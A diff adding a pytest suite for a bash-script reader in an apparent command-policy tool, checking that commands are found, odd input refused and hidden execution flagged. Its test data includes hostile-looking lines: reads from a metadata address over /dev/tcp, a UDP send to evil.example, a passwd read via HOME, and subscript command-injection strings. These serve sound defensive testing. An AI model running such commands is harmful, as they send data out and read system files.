@@ -1,0 +1,280 @@
+"""Shell scripts by kind of syntax: what runs is found, what may be more is a gap or refused."""
+
+from __future__ import annotations
+
+import pytest
+
+from policy.commands.bash import read_script
+from policy.commands.script import Script, SimpleCommand
+from policy.commands.word import Assignment, Redirection, Word
+from policy.values import Unreadable
+
+
+def script(text: str) -> Script:
+    read = read_script(text)
+    assert isinstance(read, Script), read
+    return read
+
+
+def commands(text: str) -> tuple[SimpleCommand, ...]:
+    return script(text).commands
+
+
+def texts(text: str) -> list[list[str]]:
+    return [[word.text for word in command.words] for command in commands(text)]
+
+
+def words(text: str) -> tuple[Word, ...]:
+    return commands(text)[0].words[1:]
+
+
+@pytest.mark.parametrize(
+    ("text", "found"),
+    [
+        ("git status", [["git", "status"]]),
+        ("a; b && c || d | e & f", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]),
+        ("a # b; c", [["a"]]),
+        ("a#b", [["a#b"]]),
+        ("", []),
+        ("r''m 'a b' \"c d\"", [["rm", "a b", "c d"]]),
+        (r"a \$\(b\) \; \*", [["a", "$(b)", ";", "*"]]),
+        ("a \\\n  b\\\nc", [["a", "bc"]]),
+        ("a $'\\x72\\155\\u0021\\n'", [["a", "rm!\n"]]),
+        ("a '' \"\"", [["a", "", ""]]),
+        ("a {b,c}d{1,2} {} {x} {,y}", [["a", "bd1", "bd2", "cd1", "cd2", "{}", "{x}", "y"]]),
+        ("! a; time -p b; time ! c", [["a"], ["b"], ["c"]]),
+        ("if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]),
+        ("while a; do b; done; until c; do d; done", [["a"], ["b"], ["c"], ["d"]]),
+        ("for x in 1 2; do a; done; for ((;;)) { b; }", [["a"], ["b"]]),
+        ("case $x in a|'b') c;; (*) d;& esac", [["c"], ["d"]]),
+        ("select x in a; do b; done; coproc c d; coproc N { e; }", [["b"], ["c", "d"], ["e"]]),
+        ("(a; { b; })", [["a"], ["b"]]),
+        ("f() { a; }; function g { b; }; h() ( c )", [["a"], ["b"], ["c"]]),
+        ('a "$(b "$(c)")" `d \\`e\\``', [["a", "", ""], ["b", ""], ["c"], ["d", ""], ["e"]]),
+        ('a "${x:-`rm y`}"', [["a", ""], ["rm", "y"]]),
+        ("a <(b) > >(c)", [["a", "/dev/fd/"], ["b"], ["c"]]),
+        ("a <<E\n$(b) `c` \\$(d)\nE\n", [["a"], ["b"], ["c"]]),
+        ("a <<'E'\n$(b)\nE\nc", [["a"], ["c"]]),
+        ("a <<E; b <<-F\nx\nE\n\ty\n\tF\nc", [["a"], ["b"], ["c"]]),
+        ("x=$(a) b $((1+2)); c=(1 $(d))", [["b", ""], ["a"], [], ["d"]]),
+        ("[[ -f $(a) && (b < c) ]]",
+         [["[[", "-f", "", "&&", "(", "b", "<", "c", ")", "]]"], ["a"]]),
+        ("[ a = b ]", [["[", "a", "=", "b", "]"]]),
+        ("alias x='a b; c'; x d", [["alias", "x=a b; c"], ["x", "d"], ["a", "b"], ["c", "d"]]),
+    ],
+)  # fmt: skip
+def test_every_simple_command_is_found(text: str, found: list[list[str]]) -> None:
+    read = script(text)
+    assert [[word.text for word in command.words] for command in read.commands] == found
+    assert read.gaps == ()
+    assert [command.number for command in read.commands] == list(range(1, len(found) + 1))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a 'b", 'a "b', "a \\", "a &&", "a |", "&& a", "; a", "a ;; b", "a && && b", "a)", "(a",
+        "{ a",
+        "a >", "a > > b", "a >& b c > &", "a 2>& b", "a <& b", "a >&1x", "a >&'b'",
+        "a\r", "a\x00b", "a\x1b", "a \u200bb", "a\u00a0b", "a \u202eb", "a \ud800", "a e\u0301",
+        "'' a", "a 1234> b", "a $[1]", "a ${", "a ${x", "a `b", "a <<E", "a <<E\nx", "if a; fi",
+        "a $((1", "a(b)", "a ${ b; }", "a $'\\xff'", "a $\\\nx", "&\\\n& b", "a <<\\\n-E\nE\n-E\n",
+        "x=1 \\\n2=3 a(b)", "f() a", "time -f a", "ec\\\nho a", "cat <<E $(a\nE\n)",
+    ],
+)  # fmt: skip
+def test_what_is_no_script_or_not_read_alike_is_refused(text: str) -> None:
+    read = read_script(text)
+    assert isinstance(read, Unreadable)
+    assert len(read.reason) < 120
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x='$(a)'; echo \"${x@P}\"",
+        "printf -v 'a[$(b)]' c",
+        "read 'a[$(b)]'",
+        "x='a[$(b)]'; echo $((x))",
+        "x='a[$(b)]'; [[ x -eq 1 ]]",
+        "x='a[$(b)]'; echo ${!x}",
+        "f() { echo $(($1)); }; f 'a[$(b)]'",
+        "echo $(( $(a) ))",
+        'declare "$x"',
+        "declare -i x='a[$(b)]'",
+        "cat < /dev/tcp/169.254.169.254/80",
+        "echo x > /dev/udp/evil.example/53",
+        "exec 3<>/dev/tcp/$x/80",
+        "HOME=/etc; cat ~/passwd",
+        "read HOME; cat ~/x",
+        "a !b",
+        "a =b",
+        "set -k; a b=c",
+        "set -o posix",
+        "shopt -s expand_aliases",
+        "enable -f x y",
+        "hash -p /tmp/x ls",
+        "alias ls=rm' '",
+        "cd() { :; }; cd /x && a",
+        "mapfile -C a -c 1 x",
+        "alias x='if'; x a",
+    ],
+)
+def test_what_may_run_out_of_sight_is_a_gap(text: str) -> None:
+    assert script(text).gaps
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "for ((i=0; i<3; i++)); do a $i; done",
+        "set -euo pipefail; a",
+        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
+        "shopt -s nullglob; a *.txt",
+        "find . -name '*.py' ! -name x -exec a {} +",
+        "export LANG=C; a",
+    ],
+)
+def test_everyday_scripts_have_no_gap(text: str) -> None:
+    assert script(text).gaps == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "word"),
+    [
+        ("a *.txt", Word("*.txt", "glob", many=True)),
+        ("a '*'?[x]", Word("\\*?[x]", "glob", many=True)),
+        ("a [x", Word("[x")),
+        ("a ~/x", Word("~/x", home=True)),
+        ("a '~'/x", Word("~/x")),
+        ("a $HOME/x", Word("~/x", home=True)),
+        ('a "${HOME}"', Word("~", home=True)),
+        ("a ~b/x", Word("", "opaque")),
+        ("a b=~/x", Word("b=", "opaque")),
+        ("a x/$y", Word("x/", "opaque", many=True)),
+        ('a "x/$y"', Word("x/", "opaque")),
+        ('a "$@"', Word("", "opaque", many=True)),
+        ("a b{1..3}", Word("b", "opaque", many=True)),
+        ("a @(x|y)", Word("", "opaque", many=True)),
+        ("a $$x", Word("", "opaque", many=True)),
+        ("a $ b", Word("$")),
+    ],
+)
+def test_what_a_word_is_known_to_be(text: str, word: Word) -> None:
+    assert words(text)[0] == word
+
+
+def test_a_variable_that_surely_holds_a_literal_is_replaced() -> None:
+    assert texts('d=/tmp/x; rm -r $d/y "$d"')[1] == ["rm", "-r", "/tmp/x/y", "/tmp/x"]
+    assert not commands("a && d=/x; rm $d")[-1].words[1].known
+    assert not commands("d=/x; b() { d=/y; }; b; rm $d")[-1].words[1].known
+
+
+@pytest.mark.parametrize(
+    ("text", "redirections"),
+    [
+        ("a 2> b", [Redirection(">", Word("b"), 2)]),
+        ("a2> b", [Redirection(">", Word("b"))]),
+        ("a >| b", [Redirection(">|", Word("b"))]),
+        ("a <> b", [Redirection("<>", Word("b"))]),
+        ("a &>> b", [Redirection("&>>", Word("b"))]),
+        ("a >& b", [Redirection("&>", Word("b"))]),
+        ("a >&-", [Redirection(">&", Word("-"))]),
+        ("a {fd}>b", [Redirection(">", Word("b"))]),
+        ("> b", [Redirection(">", Word("b"))]),
+        (">f 2>&1 a <in", [
+            Redirection(">", Word("f")), Redirection(">&", Word("1"), 2),
+            Redirection("<", Word("in"))]),
+    ],
+)  # fmt: skip
+def test_redirections_are_taken_off(text: str, redirections: list[Redirection]) -> None:
+    assert [list(command.redirections) for command in commands(text)] == [redirections]
+
+
+def test_the_redirections_of_a_compound_command_are_one_without_words() -> None:
+    first, last = commands("{ a; } > b")
+    assert not first.redirections
+    assert last.words == () and last.redirections == (Redirection(">", Word("b")),)
+
+
+def test_standard_input_is_known() -> None:
+    assert commands("a <<< 'b c'")[0].stdin == Word("b c\n")
+    assert commands("a <<E\nx \\$y\nE\n")[0].stdin == Word("x $y\n")
+    assert commands("a <<E\nx $y\nE\n")[0].stdin == Word("x ", "opaque")
+    assert commands("a <<E <f\nx\nE\n")[0].stdin == Word("", "opaque")
+    assert [command.piped for command in commands("a | b; { c; } < f; d <&3; e")] == [
+        False, True, True, False, True, False]  # fmt: skip
+    assert commands("exec < f; sh")[1].piped
+
+
+def test_assignments_go_with_the_commands_that_may_see_them() -> None:
+    path = Assignment("PATH", Word("/x"))
+    assert commands("PATH=/x a")[0].assignments == (path,)
+    assert commands("PATH=/x; a; (b)")[1].assignments == (path,)
+    assert commands("PATH=/x; a; (b)")[2].assignments == (path,)
+    assert commands("export PATH=/x; a")[1].assignments == (path,)
+    assert commands("f() { a; }; PATH=/x; f")[0].assignments == (path,)
+    assert commands("for i in 1 2; do a; PATH=/x; done")[0].assignments == (path,)
+    assert commands("(PATH=/x); a")[1].assignments == ()
+    assert commands("n=1; a $n")[1].assignments == ()
+    assert commands("http_proxy=x; a")[1].assignments
+    assert commands("X+=/y a")[0].assignments == (Assignment("X", Word("/y"), appends=True),)
+
+
+@pytest.mark.parametrize(
+    ("text", "folders"),
+    [
+        ("cd x && cd y && a", [(), ("x",), ("x", "y")]),
+        ("cd && a", [(), ("~",)]),
+        ("cd '~' && a", [(), ("./~",)]),
+        ("cd x; a", [(), None]),
+        ("cd x && a; b", [(), ("x",), None]),
+        ("cd x; cd /y && a", [(), None, ("/y",)]),
+        ("cd x || a", [(), None]),
+        ("a || cd x && b", [(), (), None]),
+        ("! cd x && a", [(), None]),
+        ("a | cd x && b", [(), (), ()]),
+        ("(cd x && a); b", [(), ("x",), ()]),
+        ("cd x && (a; b)", [(), ("x",), ("x",)]),
+        ("cd x & a", [(), ()]),
+        ("{ cd x && a; } && b", [(), ("x",), ("x",)]),
+        ("if cd x; then a; else b; fi; c", [(), ("x",), None, None]),
+        ("for i in 1 2; do a; cd x && b; done; c", [None, None, None, None]),
+        ("f() { cd x; }; a", [None, None]),
+        ("f() { a; }; f", [(), ()]),
+        ("cd - && a", [(), None]),
+        ("cd -P x && a", [(), None]),
+        ("pushd x && a", [(), None]),
+        ("command cd x && a", [(), None]),
+        ("eval x && a", [(), None]),
+        (". x && a", [(), None]),
+        ("$x && a", [(), None]),
+        ("cd $x && a", [(), None]),
+        ("\\cd x && a", [(), ("x",)]),
+    ],
+)
+def test_the_folder_is_known_only_where_cd_surely_ran(
+    text: str, folders: list[tuple[str, ...] | None]
+) -> None:
+    assert [command.folders for command in commands(text)] == folders
+
+
+def test_a_function_is_local_only_where_it_surely_was_defined() -> None:
+    assert [command.local for command in commands("f; f() { a; }; f x")] == [False, False, True]
+    assert not commands("a && f() { b; }; f")[-1].local
+    assert not commands("(f() { b; }); f")[-1].local
+    assert not commands("f() { b; }; unset -f f; f")[-1].local
+
+
+def test_a_command_knows_its_text_and_what_it_stands_in() -> None:
+    found = commands("a  'b' >c; d # e\n echo $(f `g`) &")
+    assert [each.text for each in found] == ["a  'b' >c", "d", "echo $(f `g`)", "f `g`", "g"]
+    assert [each.inside for each in found[2:]] == [(), ("$(…)",), ("$(…)", "`…`")]
+
+
+@pytest.mark.parametrize("part", ["$(", "`a`", "(", "{ ", "((", "$((", "${x:-", "if ", "a;", "'a'",
+    '"$x"', "coproc ", "[", "~", "=", "{a,", "a <<E\n", "x=1;", "f() {\n", "alias a='b;b';a;",
+    "<("],
+)  # fmt: skip
+def test_no_hostile_script_breaks_the_reader(part: str) -> None:
+    for count in (1, 40, 20_000):
+        assert isinstance(read_script(part * count), Script | Unreadable)
